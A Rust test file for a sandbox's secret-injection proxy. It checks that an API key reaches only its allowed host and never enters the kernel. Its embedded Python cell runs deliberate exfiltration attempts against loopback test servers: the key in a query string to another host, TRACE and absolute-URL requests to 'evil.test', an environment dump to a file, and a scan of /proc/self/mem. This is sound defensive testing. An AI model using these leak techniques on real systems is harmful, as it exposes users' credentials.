//! `--secret NAME=VALUE@HOST`: the kernel sees a placeholder, and the proxy
//! puts the value in only in requests to HOST, over plain HTTP and over TLS
//! (which it reads with a CA of the kernel's own). Test servers on this
//! machine's loopback stand in for the hosts; they record what they were
//! sent, and never send a secret back. Linux only, as the proxy is.
#![cfg(target_os = "linux")]

use crate::common;

use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use cellbox_engine::tool::{EngineConfig, EvalEngine};
use cellbox_kernels::sandbox::{NetworkSetting, SandboxPolicy};
use common::engine::eval_timed;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

/// The value, built where it is needed so that the test's own text holds it only in halves.
fn value() -> String {
    format!("{}{}", "s3cr3t-", "v4lue-2f9c")
}

/// What a test server was sent: the heads of its requests.
type Heads = Arc<Mutex<Vec<String>>>;

async fn answer<S: AsyncRead + AsyncWrite + Unpin>(mut stream: S, heads: Heads) {
    let mut head = Vec::new();
    let mut chunk = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut chunk).await {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&chunk[..n]),
        }
    }
    heads.lock().unwrap().push(String::from_utf8_lossy(&head).into_owned());
    let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok").await;
    let _ = stream.shutdown().await;
}

/// A plain HTTP server on 127.0.0.1.
async fn plain_server(heads: Heads) -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(answer(stream, heads.clone()));
        }
    });
    port
}

/// An HTTPS server on 127.0.0.1 for `secure.test`, with a certificate of a
/// test CA whose PEM is returned.
async fn tls_server(heads: Heads) -> (u16, String) {
    cellbox_kernels::tls::install_crypto();
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca.distinguished_name.push(rcgen::DnType::CommonName, "test CA");
    let ca = rcgen::CertifiedIssuer::self_signed(ca, ca_key).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec!["secure.test".to_string()]).unwrap().signed_by(&key, &ca).unwrap();
    let private = rustls::pki_types::PrivateKeyDer::try_from(key.serialize_der()).unwrap();
    let config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(vec![leaf.der().clone(), ca.der().clone()], private)
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let (acceptor, heads) = (acceptor.clone(), heads.clone());
            tokio::spawn(async move {
                if let Ok(stream) = acceptor.accept(stream).await {
                    answer(stream, heads).await;
                }
            });
        }
    });
    (port, ca.pem())
}

struct Place {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

fn engine(place: &Place, network: &str, secrets: &[String], ca: Option<PathBuf>) -> EvalEngine {
    std::fs::create_dir_all(place.root.join("work")).unwrap();
    let hosts = place.root.join("hosts");
    std::fs::write(&hosts, "127.0.0.1 api.test other.test secure.test\n").unwrap();
    let mut config = EngineConfig::new(place.root.join("work"));
    config.python = Some(common::python().display().to_string());
    config.artifacts_dir = place.root.join("artifacts");
    config.artifact_retention = None;
    config.runner_cache_dir = Some(place.root.join("runner-cache"));
    let mut policy = SandboxPolicy::default();
    policy.set_network(network.parse::<NetworkSetting>().unwrap());
    policy.network_hosts = Some(hosts);
    policy.network_ca = ca;
    policy.kernel_files = Some(place.root.join("kernel-files"));
    policy.secrets = secrets.iter().map(|secret| secret.parse().unwrap()).collect();
    policy.check_secrets().unwrap();
    config.sandbox = policy;
    EvalEngine::new(config)
}

/// Every file under `dir` holding `needle`.
fn files_holding(dir: &std::path::Path, needle: &[u8]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
            found.extend(files_holding(&path, needle));
        } else if std::fs::read(&path).is_ok_and(|bytes| bytes.windows(needle.len()).any(|w| w == needle)) {
            found.push(path);
        }
    }
    found
}

const CELL: &str = r#"
import os, ssl, urllib.request
key = os.environ["API_KEY"]
print("placeholder:", key)
def get(url):
    request = urllib.request.Request(url, headers={"Authorization": "Bearer " + key})
    try:
        return urllib.request.urlopen(request, timeout=30).read().decode()
    except Exception as e:
        return type(e).__name__ + ": " + str(e)[:200]
print("plain:", get("http://api.test:{plain}/v1"))
print("elsewhere:", get("http://other.test:{plain}/leak?k=" + key))
print("tls:", get("https://secure.test:{tls}/v1"))
# The clients API SDKs are built on (httpx under OpenAI's and Anthropic's) trust the kernel's CA too.
import httpx, requests
bearer = {"Authorization": "Bearer " + key}
print("httpx:", httpx.get("https://secure.test:{tls}/httpx", headers=bearer, timeout=30).text)
print("requests:", requests.get("https://secure.test:{tls}/requests", headers=bearer, timeout=30).text)
# Ways to make the host send the value back: the request line, a header servers echo, TRACE, a
# request for another site in full: the first three get the placeholder, TRACE and the last nothing.
def raw(request):
    context = ssl.create_default_context()
    with socket.create_connection(("127.0.0.1", 3128), timeout=30) as s:
        s.sendall(b"CONNECT secure.test:{tls} HTTP/1.1\r\n\r\n")
        s.recv(100)
        with context.wrap_socket(s, server_hostname="secure.test") as t:
            t.sendall(request.encode())
            try:
                return t.recv(100).decode() or "refused"
            except (OSError, ssl.SSLError):
                return "refused"
import socket
print("line:", raw("GET /echo/" + key + " HTTP/1.1\r\nOrigin: " + key + "\r\n\r\n")[:15])
print("reflected:", raw("TRACE / HTTP/1.1\r\nAuthorization: " + key + "\r\n\r\n")[:15])
print("absolute:", raw("GET http://evil.test/ HTTP/1.1\r\nAuthorization: " + key + "\r\n\r\n")[:15])
open("notes.txt", "w").write(key + "\n" + repr(dict(os.environ)))
# The kernel's memory, searched for the value in two halves (the needle is never whole here).
halves = ("{half1}".encode(), "{half2}".encode())
found = 0
for line in open("/proc/self/maps"):
    parts = line.split()
    if "r" not in parts[1] or (len(parts) > 5 and parts[5] in ("[vvar]", "[vsyscall]")):
        continue
    start, end = (int(x, 16) for x in parts[0].split("-"))
    try:
        with open("/proc/self/mem", "rb") as mem:
            mem.seek(start)
            data = mem.read(end - start)
    except (OSError, ValueError, OverflowError):
        continue
    at = data.find(halves[0])
    while at >= 0:
        if data[at + len(halves[0]):at + len(halves[0]) + len(halves[1])] == halves[1]:
            found += 1
        at = data.find(halves[0], at + 1)
print("in memory:", found)
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_goes_only_to_its_host_and_never_into_the_kernel() {
    let dir = tempfile::tempdir().unwrap();
    let place = Place { root: dir.path().canonicalize().unwrap(), _dir: dir };
    let heads = Heads::default();
    let plain = plain_server(heads.clone()).await;
    let (tls, ca_pem) = tls_server(heads.clone()).await;
    let ca = place.root.join("test-ca.pem");
    std::fs::write(&ca, ca_pem).unwrap();
    let secrets = [format!("API_KEY={}@api.test", value()), format!("API_KEY={}@secure.test", value())];
    let engine = engine(&place, "allow:api.test,other.test,secure.test", &secrets, Some(ca));
    let whole = value();
    let (half1, half2) = whole.split_at(7);
    let code = CELL
        .replace("{plain}", &plain.to_string())
        .replace("{tls}", &tls.to_string())
        .replace("{half1}", half1)
        .replace("{half2}", half2);
    let result = eval_timed(&engine, &code, 120.0).await;
    engine.dispose_all().await;
    let text = result.text.clone();
    assert!(text.contains("placeholder: cellbox-secret:API_KEY"), "{text}");
    assert!(text.contains("plain: ok"), "{text}");
    assert!(text.contains("reflected: refused") && text.contains("absolute: refused"), "{text}");
    assert!(text.contains("elsewhere: ok"), "{text}");
    assert!(text.contains("tls: ok"), "the kernel trusted its own CA for secure.test: {text}");
    assert!(text.contains("httpx: ok") && text.contains("requests: ok"), "{text}");
    assert!(text.contains("in memory: 0"), "{text}");
    assert!(!text.contains(&value()), "{text}");
    let heads = heads.lock().unwrap().clone();
    let to = |parts: &[&str]| {
        let found = heads.iter().find(|head| parts.iter().all(|part| head.contains(part)));
        found.cloned().unwrap_or_else(|| panic!("{parts:?}: {heads:?}"))
    };
    let plain = to(&["GET /v1 ", "Host: api.test"]);
    assert!(
        plain.contains("Bearer cellbox-secret:API_KEY") && !plain.contains(&value()),
        "never in clear text: {heads:?}"
    );
    let elsewhere = to(&["GET /leak"]);
    assert!(elsewhere.contains("Bearer cellbox-secret:API_KEY"), "another host gets the placeholder: {heads:?}");
    assert!(!elsewhere.contains(&value()), "{heads:?}");
    assert!(to(&["GET /v1 ", "Host: secure.test"]).contains(&format!("Bearer {}", value())), "over TLS: {heads:?}");
    for client in ["/httpx ", "/requests "] {
        assert!(to(&[client]).contains(&format!("Bearer {}", value())), "{client}: {heads:?}");
    }
    let echo = to(&["GET /echo/cellbox-secret:API_KEY "]);
    assert!(echo.contains("Origin: cellbox-secret:API_KEY") && !echo.contains(&value()), "{heads:?}");
    assert!(!heads.iter().any(|head| head.starts_with("TRACE") || head.contains("evil.test")), "{heads:?}");
    let leaked = files_holding(&place.root.join("work"), value().as_bytes());
    assert!(leaked.is_empty(), "the value reached the kernel's files: {leaked:?}");
    assert!(place.root.join("work/notes.txt").exists());
}

#[test]
fn a_secret_needs_the_proxy_and_an_allowed_host() {
    let secret = |text: &str| text.parse::<cellbox_kernels::sandbox::network::Secret>().unwrap();
    let mut policy = SandboxPolicy { secrets: vec![secret("K=v@api.test")], ..SandboxPolicy::default() };
    let error = policy.check_secrets().unwrap_err().to_string();
    assert!(error.contains("--network allow:api.test"), "{error}");
    policy.set_network("allow:pypi".parse().unwrap());
    let error = policy.check_secrets().unwrap_err().to_string();
    assert!(error.contains("not in the allowlist"), "{error}");
    policy.set_network("allow:pypi,api.test".parse().unwrap());
    policy.check_secrets().unwrap();
    let output = common::binary::cellbox(["run", "--network", "allow:pypi", "--secret", "K=v@api.test", "-c", "1"])
        .output()
        .unwrap();
    assert!(!output.status.success());
    let stderr = common::binary::text(&output.stderr);
    assert!(stderr.contains("api.test") && !stderr.contains("=v@"), "{stderr}");
}
